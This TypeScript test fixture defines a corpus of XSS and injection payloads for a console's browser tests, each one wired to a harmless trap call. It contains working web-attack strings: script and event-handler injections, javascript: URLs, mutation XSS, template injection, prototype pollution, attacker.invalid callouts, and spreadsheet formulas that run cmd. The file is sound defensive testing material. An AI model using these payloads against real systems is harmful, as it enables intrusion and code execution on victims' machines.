/**
 * Hostile strings for the console's browser tests: what an attacker can put in a log line, a
 * JSON field, a rule file or a form, aimed at a web page that shows it.
 *
 * Every payload that could run calls the trap `__xss('<id>')` (the tests expose it with
 * page.exposeBinding before any navigation, so a payload that ran is reported by id), and every
 * element a payload would inject carries `data-xss="<id>"`, so an element that got into the DOM
 * is found even when its script was stopped by the Content-Security-Policy. A payload that is
 * shown as text leaves neither.
 *
 * `probe` is the part of the payload that must appear literally in the page's text: the proof it
 * was rendered, not dropped. It leaves out control, bidi and zero-width characters, which a
 * console may rightly show as visible placeholders instead of passing them through.
 */

export type PayloadFamily =
  | 'script'
  | 'event-handler'
  | 'url'
  | 'svg'
  | 'frame'
  | 'entities'
  | 'template'
  | 'prototype'
  | 'css-breakout'
  | 'markup-breakout'
  | 'markdown'
  | 'ansi'
  | 'bidi'
  | 'zero-width'
  | 'long'
  | 'null-byte'
  | 'formula';

export interface HostilePayload {
  /** Short and [a-z0-9] only: used in the trap call, the marker and rule ids. */
  readonly id: string;
  readonly family: PayloadFamily;
  readonly text: string;
  /** The printable part that must be found, literally, in the text of a page that shows it. */
  readonly probe: string;
  /** No white space or control character: fits a syslog HOSTNAME or APP-NAME. */
  readonly compact: boolean;
}

/** The trap call a payload makes if it runs. */
export const trap = (id: string): string => `__xss('${id}')`;

/** An `<img>` that reports through the trap when its (missing) image fails to load. */
const img = (id: string): string => `<img src=x data-xss="${id}" onerror="${trap(id)}">`;

const LONG_FILLER = 'A'.repeat(20_000);

function payload(id: string, family: PayloadFamily, text: string, probe = text): HostilePayload {
  if (!/^[a-z0-9]+$/.test(id)) throw new Error(`payload id ${id}: [a-z0-9] only`);
  if (!text.includes(probe)) throw new Error(`payload ${id}: the probe is not part of the text`);
  // eslint-disable-next-line no-control-regex
  return { id, family, text, probe, compact: !/[\s\u0000-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]/.test(text) };
}

const base64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');

export const XSS_CORPUS: readonly HostilePayload[] = [
  // Script elements, as HTML would run them if the text were parsed as markup.
  payload('s1', 'script', `<script data-xss="s1">${trap('s1')}</script>`),
  payload('s2', 'script', `<ScRiPt data-xss="s2">${trap('s2')}</sCrIpT>`),
  payload('s3', 'script', `<script/data-xss="s3">${trap('s3')}</script>`),
  payload('s4', 'script', `<script data-xss="s4" src="data:text/javascript,${trap('s4')}"></script>`),

  // Event-handler attributes: run without a <script>, the usual way past naive filters.
  payload('e1', 'event-handler', img('e1')),
  payload('e2', 'event-handler', `<img/src="x"/data-xss="e2"/onerror="${trap('e2')}">`),
  payload('e3', 'event-handler', `<svg data-xss="e3" onload="${trap('e3')}">`),
  payload('e4', 'event-handler', `<svg/data-xss="e4"/onload="${trap('e4')}">`),
  payload('e5', 'event-handler', `<body data-xss="e5" onload="${trap('e5')}">`),
  payload('e6', 'event-handler', `<details open data-xss="e6" ontoggle="${trap('e6')}">x</details>`),
  payload('e7', 'event-handler', `<input autofocus data-xss="e7" onfocus="${trap('e7')}">`),
  // Breaking out of an attribute the text might have been placed in.
  payload('e8', 'event-handler', `" autofocus onfocus="${trap('e8')}" data-xss="e8" x="`),
  payload('e9', 'event-handler', `'><img src=x data-xss='e9' onerror='${trap('e9')}'>`),

  // URLs a careless link or image would follow.
  payload('u1', 'url', `javascript:${trap('u1')}`),
  payload('u2', 'url', `\u0001 JaVaScRiPt:${trap('u2')}`, `JaVaScRiPt:${trap('u2')}`),
  payload('u3', 'url', `data:text/html,<script data-xss="u3">parent.${trap('u3')}</script>`),
  payload('u4', 'url', `data:text/html;base64,${base64(`<script>parent.${trap('u4')}</script>`)}`),
  payload('u5', 'url', `<a href="javascript:${trap('u5')}" data-xss="u5">open</a>`),
  payload('u6', 'url', `vbscript:msgbox("u6")//${trap('u6')}`),

  // SVG and MathML: their own parsing rules (mutation XSS through foreign content).
  payload('v1', 'svg', `<svg><script data-xss="v1">${trap('v1')}</script></svg>`),
  payload('v2', 'svg', `<svg><animate data-xss="v2" onbegin="${trap('v2')}" attributeName="x" dur="1s"></animate></svg>`),
  payload('v3', 'svg', `<math><mtext><table><mglyph><style><img src=x data-xss="v3" onerror="${trap('v3')}">`),
  payload('v4', 'svg', `<svg><a xlink:href="javascript:${trap('v4')}" data-xss="v4"><text x="20" y="20">v4</text></a></svg>`),

  // Frames and plugins.
  payload('f1', 'frame', `<iframe data-xss="f1" srcdoc="<script>parent.${trap('f1')}</script>"></iframe>`),
  payload('f2', 'frame', `<object data-xss="f2" data="javascript:${trap('f2')}"></object><embed data-xss="f2" src="javascript:${trap('f2')}">`),

  // HTML entities: must be shown as written, never decoded into markup.
  payload('h1', 'entities', `&lt;script data-xss="h1"&gt;${trap('h1')}&lt;/script&gt;`),
  payload('h2', 'entities', `&#x3C;img src=x data-xss="h2" onerror="${trap('h2')}"&#x3E;`),
  payload('h3', 'entities', `&#60;svg data-xss=h3 onload=${trap('h3')}&#62;`),

  // Template and expression engines (Angular, Vue, Handlebars, JS template literals, EJS).
  payload('t1', 'template', `{{constructor.constructor('${trap('t1')}')()}}`),
  payload('t2', 'template', `\${${trap('t2')}} #{${trap('t2')}}`),
  payload('t3', 'template', `<%= ${trap('t3')} %> [[\${${trap('t3')}}]]`),

  // Prototype pollution: as text here; as JSON keys the ingest test sends it too.
  payload('p1', 'prototype', `{"__proto__":{"xssPolluted":"p1"},"constructor":{"prototype":{"xssPolluted":"p1"}}}`),
  payload('p2', 'prototype', `__proto__[xssPolluted]=p2&constructor.prototype.xssPolluted=p2`),

  // Closing the element the text may sit in: style, title, textarea, comments, CDATA.
  payload('c1', 'css-breakout', `</style><style data-xss="c1">*{background:url("javascript:${trap('c1')}")}</style>${img('c1')}`),
  payload('c2', 'css-breakout', `<style data-xss="c2">@import 'https://attacker.invalid/c2.css';body{display:none}</style>`),
  payload('c3', 'markup-breakout', `</textarea></title></noscript><script data-xss="c3">${trap('c3')}</script>`),
  payload('c4', 'markup-breakout', `--><script data-xss="c4">${trap('c4')}</script><!-- ]]>${img('c4')}`),

  // Markdown, should anything render notes or descriptions as markdown.
  payload('m1', 'markdown', `[click me](javascript:${trap('m1')}) ![x](x" onerror="${trap('m1')})`),

  // Terminal escapes: colour, clear screen, an OSC 8 hyperlink, a carriage return that hides text.
  payload('a1', 'ansi', `\x1b[31mred-a1\x1b[0m${img('a1')}`, img('a1')),
  payload('a2', 'ansi', `\x1b]8;;javascript:${trap('a2')}\x1b\\link-a2\x1b]8;;\x1b\\`, `javascript:${trap('a2')}`),
  payload('a3', 'ansi', `\x1b[2J\x1b[Hall clear\r<script data-xss="a3">${trap('a3')}</script>`, `<script data-xss="a3">${trap('a3')}</script>`),

  // Bidirectional overrides: text that reads differently from what it is.
  payload('b1', 'bidi', `\u202E${img('b1')}fdp.exe`, img('b1')),
  payload('b2', 'bidi', `user\u2066<svg data-xss="b2" onload="${trap('b2')}">\u2069admin`, `<svg data-xss="b2" onload="${trap('b2')}">`),

  // Zero-width characters inside a tag name and a word.
  payload('z1', 'zero-width', `ad\u200Bmin\u200D<img\u200B src=x data-xss="z1" onerror="${trap('z1')}">\uFEFF`, ` src=x data-xss="z1" onerror="${trap('z1')}">`),

  // Very long: layout, truncation and size limits; a payload at both ends.
  payload('l1', 'long', `${img('l1')}${LONG_FILLER}<script data-xss="l1">${trap('l1')}</script>`, img('l1')),

  // A NUL where the input allows one: must not cut the text or end a C string somewhere.
  payload('n1', 'null-byte', `nul\u0000<script data-xss="n1">${trap('n1')}</script>`, `<script data-xss="n1">${trap('n1')}</script>`),

  // Spreadsheet formulas, for exports (and shown as text on pages).
  payload('q1', 'formula', `=HYPERLINK("https://attacker.invalid/q1","q1")`),
  payload('q2', 'formula', `+cmd|' /C calc'!A0 q2`),
  payload('q3', 'formula', `-2+3+cmd|' /C calc'!A0 q3`),
  payload('q4', 'formula', `@SUM(1+1)*cmd|' /C calc'!A0 q4`),
  payload('q5', 'formula', `\t=1+1 q5`, `=1+1 q5`),
];

/** Payloads that fit where no white space is allowed (a syslog HOSTNAME, APP-NAME, a user token). */
export const COMPACT_PAYLOADS: readonly HostilePayload[] = XSS_CORPUS.filter((p) => p.compact);

/** The payloads whose text starts with something a spreadsheet would evaluate. */
export const FORMULA_PAYLOADS: readonly HostilePayload[] = XSS_CORPUS.filter((p) => /^[=+\-@\t\r]/.test(p.text));

/** A short label for a payload in an assertion message (control characters made visible). */
export function describePayload(p: HostilePayload): string {
  // eslint-disable-next-line no-control-regex
  const visible = p.text.slice(0, 80).replace(/[\u0000-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`);
  return `${p.id} (${p.family}): ${visible}${p.text.length > 80 ? '…' : ''}`;
}
